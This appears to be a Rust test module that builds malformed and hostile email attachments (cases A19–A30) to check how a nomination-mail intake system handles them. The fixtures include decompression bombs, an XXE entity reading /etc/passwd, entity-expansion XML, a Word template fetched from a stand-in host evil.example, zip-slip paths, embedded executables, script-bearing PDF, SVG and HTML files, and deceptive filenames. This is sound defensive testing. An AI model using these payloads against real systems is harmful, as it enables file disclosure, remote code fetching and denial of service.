//! A19–A30: files that hurt, hide or lie. The rest of their mail is used, and who sent them is asked for what could not be read.

use focus_family::demo::forms;
use focus_family::forms::bytes;
use lopdf::{Object, dictionary};

use super::{OPENED, Rows, asked_again, beside, looked_at, only};
use crate::carriers::boxes::locked;
use crate::carriers::hostile::deflated;
use crate::carriers::made::{page, pdf as pdf_of, stream, zipped};
use crate::carriers::outlook::winmail;
use crate::support::daemon::{form, mail_with, nomination};

const DAMAGED_PDF: &str = "an attachment (PDF) is damaged; ask the sender for it again";
const DAMAGED_ZIP: &str = "an attachment (ZIP) is damaged; ask the sender for it again";
const LARGE_PDF: &str = "an attachment (PDF) could not be read: it is too large; ask for it smaller, or in parts";
const LARGE_WORD: &str = "an attachment (Word) could not be read: it is too large; ask for it smaller, or in parts";
const LARGE_ZIP: &str = "an attachment (ZIP) could not be read: it is too large; ask for it smaller, or in parts";
const LARGE_PICTURE: &str = "an attachment (picture) could not be read: it is too large; ask for it smaller, or in parts";
const UNSAFE_WORD: &str = "an attachment (Word) is made in a way that is not safe to open; ask the sender for it as PDF";
const DEEP_ZIP: &str = "an attachment (ZIP) could not be read: too much is packed into each other; ask for the form alone";
const OTHER_KIND: &str = "an attachment is of a kind that is not opened here; ask the sender for it as PDF or Word";
const LOCKED: &str = "an attachment is locked; open it with its password and save the form here";
/// A mail that announces a nomination and shows nothing of it.
const NOTHING_SHOWN: &str = "case_opened, nomination; awaiting_information not_shown no area; \
                             acknowledgement_missing>referrer area_unknown>team triage_summary>team; ";

pub fn add(rows: &mut Rows) {
    pdfs(rows);
    locked_and_drawn(rows);
    office(rows);
    archives(rows);
    other_kinds(rows);
    liars(rows);
}

fn alone(doubt: &str) -> String {
    format!("{NOTHING_SHOWN}team: FF-E-#####: look at the mail: {doubt}; team: Say which area the family belongs to.")
}

fn docx(number: u32) -> Vec<u8> {
    forms::nomination_docx(&form(number))
}

fn pdfs(rows: &mut Rows) {
    let catalogue = || b"<< /Type /Catalog /Pages 2 0 R >>".to_vec();
    let pages = || b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec();
    let leaf = || b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >>".to_vec();
    let packed = deflated(&deflated(&vec![b' '; 64 << 20]));
    let bomb = pdf_of(&[catalogue(), pages(), leaf(), stream("/Filter [/FlateDecode /FlateDecode]", &packed)], "");
    rows.add("A19", "a small PDF that unpacks to 64 megabytes", |n| beside(n, "bomb.pdf", &bomb), asked_again(LARGE_PDF));

    let good = page("BT /F 12 Tf 50 700 Td (School: Hill) Tj ET", &[]);
    let start = good.windows(4).rposition(|window| window == b"xref").unwrap();
    let start = good[..start].windows(4).rposition(|window| window == b"xref").unwrap_or(start);
    let looped = String::from_utf8_lossy(&good).replacen("trailer\n<<", &format!("trailer\n<< /Prev {start}"), 1);
    let lies = String::from_utf8_lossy(&good).replacen("/Length ", "/Length 99999", 1);
    let kids = [catalogue(), b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>".to_vec(), leaf(), stream("", b"")];
    let round = [catalogue(), pages(), leaf(), b"[4 0 R 4 0 R]".to_vec()];
    let deep = [b"<< /Type /Catalog /Pages ".to_vec(), b"[".repeat(300_000), b"]".repeat(300_000), b" >>".to_vec()].concat();
    let table = b"%PDF-1.5\n1 0 obj\n<< /Type /XRef /W [0 0 0] /Size 9 /Index [0 999999999] /Root 1 0 R /Length 0 >>\n\
                  stream\n\nendstream\nendobj\nstartxref\n9\n%%EOF\n";
    for (what, bytes, expected) in [
        ("a PDF whose table of places leads back to itself", looped.into_bytes(), OPENED.to_owned()),
        ("a PDF that lies about a length", lies.into_bytes(), OPENED.to_owned()),
        ("a PDF whose pages hold themselves", pdf_of(&kids, ""), OPENED.to_owned()),
        ("a PDF whose drawing holds itself", pdf_of(&round, ""), OPENED.to_owned()),
        ("a PDF with 300,000 lists in each other", pdf_of(&[deep], ""), asked_again(DAMAGED_PDF)),
        ("a PDF with a table of no width and a billion rows", table.to_vec(), asked_again(DAMAGED_PDF)),
    ] {
        rows.add("A20", what, |n| beside(n, "odd.pdf", &bytes), expected);
    }
}

/// The filled PDF form, its document changed.
fn changed(number: u32, change: impl FnOnce(&mut lopdf::Document)) -> Vec<u8> {
    let mut document = forms::nomination_pdf(&form(number));
    change(&mut document);
    only(number, "nomination.pdf", &bytes(document))
}

fn locked_and_drawn(rows: &mut Rows) {
    let shut = |n| only(n, "nomination.pdf", &forms::locked(forms::nomination_pdf(&form(n)), "secret"));
    rows.add("A21", "a PDF that opens with a password", shut, alone(LOCKED));
    let open = |n| only(n, "nomination.pdf", &forms::locked(forms::nomination_pdf(&form(n)), ""));
    rows.add("A21", "a PDF that is locked against changes only", open, OPENED);
    let script = |n| {
        changed(n, |document| {
            let action = dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") };
            document.catalog_mut().unwrap().set("OpenAction", action);
        })
    };
    rows.add("A21", "a PDF form with a program in it", script, OPENED);
    let portfolio = |n| {
        changed(n, |document| {
            let file =
                document.add_object(lopdf::Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ\x90\0program".to_vec()));
            let name = Object::string_literal("setup.exe");
            let file = dictionary! { "Type" => "Filespec", "F" => name.clone(), "EF" => dictionary! { "F" => file } };
            let files = dictionary! { "EmbeddedFiles" => dictionary! { "Names" => vec![name, file.into()] } };
            document.catalog_mut().unwrap().set("Names", files);
        })
    };
    rows.add("A21", "a PDF form with a program packed into it", portfolio, OPENED);
    let hidden = |n| {
        changed(n, |document| {
            for object in document.objects.values_mut() {
                let Ok(field) = object.as_dict_mut() else { continue };
                let of_consent = field
                    .get(b"T")
                    .and_then(Object::as_str)
                    .is_ok_and(|name| String::from_utf8_lossy(name).replace('\0', "").to_lowercase().contains("consent"));
                if of_consent {
                    field.set("F", 2);
                }
            }
        })
    };
    rows.add(
        "A22",
        "a PDF form whose answers about consent nobody can see",
        hidden,
        "case_opened, nomination; awaiting_information meets copeland; acknowledgement_missing>referrer triage_summary>area_officer",
    );
}

/// A Word file of this XML with the parts that name its kind.
fn word(xml: &[u8]) -> Vec<u8> {
    zipped(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", xml)])
}

fn office(rows: &mut Rows) {
    rows.add(
        "A23",
        "a Word file that unpacks to 101 megabytes",
        |n| beside(n, "more.docx", &word(&vec![b' '; 101 << 20])),
        asked_again(LARGE_WORD),
    );
    let overlapped = {
        let mut zip = zipped(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", &vec![b' '; 1 << 16])]);
        let second = zip.windows(4).rposition(|window| window == b"PK\x01\x02").unwrap();
        zip[second + 42..second + 46].copy_from_slice(&[0; 4]);
        zip
    };
    rows.add("A23", "a Word file whose parts overlap", |n| beside(n, "more.docx", &overlapped), asked_again(DAMAGED_ZIP));
    let names: Vec<String> = (0..10_000).map(|index| format!("word/{index}")).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"x"[..])).collect();
    let many = zipped(&many);
    rows.add("A23", "a Word file of 10,000 parts", |n| beside(n, "more.docx", &many), asked_again(LARGE_ZIP));
    let outside =
        b"<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"w\"><w:body>&x;</w:body></w:document>";
    rows.add(
        "A24",
        "a Word file that wants a file of ours",
        |n| beside(n, "more.docx", &word(outside)),
        asked_again(UNSAFE_WORD),
    );
    let laughs =
        b"<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><w:document xmlns:w=\"w\"><w:body>&b;</w:body></w:document>";
    rows.add("A24", "a Word file that grows as it is read", |n| beside(n, "more.docx", &word(laughs)), asked_again(UNSAFE_WORD));
    let linked = zipped(&[
        ("[Content_Types].xml", b"<Types/>"),
        (
            "word/_rels/document.xml.rels",
            b"<Relationships><Relationship Id=\"r1\" Type=\"attachedTemplate\" Target=\"https://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>",
        ),
        (
            "word/document.xml",
            b"<w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:t>Notes</w:t></w:r></w:p></w:body></w:document>",
        ),
    ]);
    rows.add("A24", "a Word file with a template of a stranger's machine", |n| beside(n, "notes.docx", &linked), OPENED);
    let wide: String = (0..800_000).map(|index| format!(" a{index}=\"\"")).collect();
    let wide = word(format!("<w:p{wide}/>").as_bytes());
    rows.add("A25", "a tag with 800,000 attributes", |n| beside(n, "more.docx", &wide), asked_again(LARGE_WORD));
    let spaces: String = (0..100_000).map(|index| format!(" xmlns:a{index}=\"u\"")).collect();
    let spaces = word(format!("<w:p{spaces}/>").as_bytes());
    rows.add("A25", "a tag with 100,000 name spaces", |n| beside(n, "more.docx", &spaces), asked_again(LARGE_WORD));
}

fn archives(rows: &mut Rows) {
    for (what, name) in [
        ("a ZIP that climbs out of its folder", "../../../etc/nomination.docx"),
        ("a ZIP with a path of the machine", "/etc/nomination.docx"),
        ("a ZIP with a path of Windows", "..\\..\\windows\\nomination.docx"),
        ("a ZIP with a device for a name", "CON"),
    ] {
        rows.add("A26", what, |n| only(n, "papers.zip", &zipped(&[(name, &docx(n))])), OPENED);
    }
    let long = "n".repeat(300) + ".docx";
    rows.add("A26", "a ZIP with a name of 300 letters", |n| only(n, "papers.zip", &zipped(&[(&long, &docx(n))])), OPENED);
    rows.add(
        "A26",
        "a ZIP with names that differ in capitals only",
        |n| only(n, "papers.zip", &zipped(&[("FORM.docx", &docx(n)), ("form.DOCX", &docx(n))])),
        OPENED,
    );
    rows.add(
        "A27",
        "a ZIP under a password",
        |n| only(n, "nomination.zip", &locked(zipped(&[("form.docx", &docx(n))]))),
        alone(&LOCKED.replace("attachment", "attachment (ZIP)")),
    );
    let mut nested = zipped(&[("deep.txt", b"deepest")]);
    for _ in 0..4 {
        nested = zipped(&[("in.zip", &nested)]);
    }
    rows.add("A23", "a ZIP in a ZIP in a ZIP", |n| beside(n, "out.zip", &nested), asked_again(DEEP_ZIP));
}

fn other_kinds(rows: &mut Rows) {
    rows.add("A28", "a Word file that may hold macros", |n| only(n, "nomination.docm", &docx(n)), OPENED);
    rows.add("A28", "a nomination saved as a mail", |n| only(n, "saved.eml", &nomination(n)), OPENED);
    rows.add(
        "A28",
        "a nomination in a winmail.dat",
        |n| only(n, "winmail.dat", &winmail(&[], &[("form.docx", &docx(n))])),
        OPENED,
    );
    let rtf = br"{\rtf1 Notes {\object\objocx{\*\objdata 4d5a9000}} of the school\par}";
    rows.add("A28", "an RTF with a program in it", |n| beside(n, "notes.rtf", rtf), OPENED);
    for (what, name, bytes) in [
        ("a notebook of OneNote", "notes.one", &b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3\0\0\0\0"[..]),
        ("an image of a disk", "disk.iso", b"\0\0\0\0CD001\x01\0\0"),
        ("a link of Windows", "form.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0"),
        ("a program", "setup.exe", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"),
    ] {
        rows.add("A28", what, |n| beside(n, name, bytes), looked_at(OTHER_KIND));
    }
    let drawing = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><text>hello</text></svg>";
    rows.add("A28", "a drawing with a program in it", |n| beside(n, "plan.svg", drawing), OPENED);
    rows.add(
        "A28",
        "a page with a program in it",
        |n| beside(n, "page.html", b"<html><script>alert(1)</script><p>Hello</p>"),
        OPENED,
    );
    rows.add(
        "A28",
        "an archive of another kind",
        |n| beside(n, "papers.7z", b"7z\xbc\xaf\x27\x1c\0\x04"),
        asked_again("an attachment is an archive that is not opened here (#z, RAR or the like); ask for the files themselves"),
    );
    rows.add(
        "A28",
        "a photo of an Apple telephone",
        |n| beside(n, "form.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
        asked_again("an attachment is a photo in Apple's HEIC format; ask for it as JPEG or PDF"),
    );
}

fn liars(rows: &mut Rows) {
    let both = |n| {
        let form = bytes(forms::nomination_pdf(&form(n)));
        only(n, "nomination.pdf", &[form, zipped(&[("x.html", b"<html>")])].concat())
    };
    rows.add("A29", "a PDF that is a ZIP as well", both, OPENED);
    rows.add(
        "A29",
        "a program called a PDF",
        |n| beside(n, "nomination.pdf", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"),
        looked_at(OTHER_KIND),
    );
    rows.add(
        "A29",
        "a drawing called a photo",
        |n| beside(n, "photo.jpg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
        OPENED,
    );
    rows.add("A29", "a name that reads backwards", |n| only(n, "nomination\u{202e}xcod.exe", &docx(n)), OPENED);
    rows.add("A29", "a name with two endings", |n| only(n, "nomination.pdf.exe", &docx(n)), OPENED);
    rows.add(
        "A29",
        "a file declared to be another kind",
        |n| mail_with(n, &[("nomination.docx", "image/png", &docx(n))]),
        OPENED,
    );
    let huge = {
        let mut png = include_bytes!("../../data/files/scan.png").to_vec();
        png[16..24].copy_from_slice(&[0, 0, 0x4e, 0x20, 0, 0, 0x4e, 0x20]);
        let sum = checksum(&png[12..29]).to_be_bytes();
        png[29..33].copy_from_slice(&sum);
        png
    };
    rows.add("A30", "a picture of 20,000 by 20,000 points", |n| beside(n, "photo.png", &huge), asked_again(LARGE_PICTURE));
}

/// The sum of a PNG's part (CRC-32), so that only its size is wrong.
fn checksum(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| if sum & 1 == 1 { 0xedb8_8320 ^ (sum >> 1) } else { sum >> 1 })
    })
}
